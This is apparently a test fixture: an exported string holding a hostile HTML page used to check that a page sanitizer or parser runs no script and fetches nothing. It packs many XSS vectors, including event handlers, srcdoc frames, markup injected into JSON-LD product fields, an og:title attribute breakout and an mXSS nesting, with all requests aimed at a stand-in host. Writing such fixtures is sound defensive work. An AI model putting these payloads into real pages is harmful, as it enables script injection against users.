/**
 * A saved page that tries everything a page can try: scripts, handlers, frames, forms, links that load, styles that fetch, and a
 * product whose name is markup. Whatever of it ran would set `globalThis.ran`; whatever was requested would go to hostile.example.
 */
export const hostilePage = `<!doctype html><html><head>
<base href="https://hostile.example/">
<meta http-equiv="refresh" content="0;url=https://hostile.example/refresh">
<link rel="stylesheet" href="https://hostile.example/a.css"><link rel="preload" as="script" href="https://hostile.example/p.js">
<script>globalThis.ran = "script"</script><script src="https://hostile.example/a.js"></script>
<script type="module">globalThis.ran = "module"; import("https://hostile.example/m.js")</script>
<style>@import "https://hostile.example/b.css"; body{background:url(https://hostile.example/c.png)}</style>
<meta property="og:title" content='"><img src=x onerror="globalThis.ran=1">'>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"<img src=x onerror='globalThis.ran=2'><script>globalThis.ran=3<\\/script> strap for ROLEX","brand":{"@type":"Brand","name":"</textarea><svg onload='globalThis.ran=4'>"},"description":"<iframe src='https://hostile.example/f'></iframe>javascript:globalThis.ran=5","offers":{"@type":"Offer","price":"1","priceCurrency":"USD","seller":{"@type":"Organization","name":"<b onclick='globalThis.ran=6'>x</b>"}}}</script>
</head><body onload="globalThis.ran='body'">
<h1><img src="https://hostile.example/i.png" onerror="globalThis.ran='img'">strap for ROLEX</h1>
<iframe src="https://hostile.example/frame" srcdoc="<script>parent.ran='srcdoc'</script>"></iframe>
<object data="https://hostile.example/o"></object><embed src="https://hostile.example/e"><video src="https://hostile.example/v" autoplay onerror="globalThis.ran='video'"></video>
<form action="https://hostile.example/form"><input autofocus onfocus="globalThis.ran='focus'"></form>
<svg><script>globalThis.ran="svg"</script><image href="https://hostile.example/s.png"/></svg>
<template><img src="https://hostile.example/t.png"></template>
<math><mtext><table><mglyph><style><img src=x onerror="globalThis.ran='mxss'"></style></mglyph></table></mtext></math>
</body></html>`;
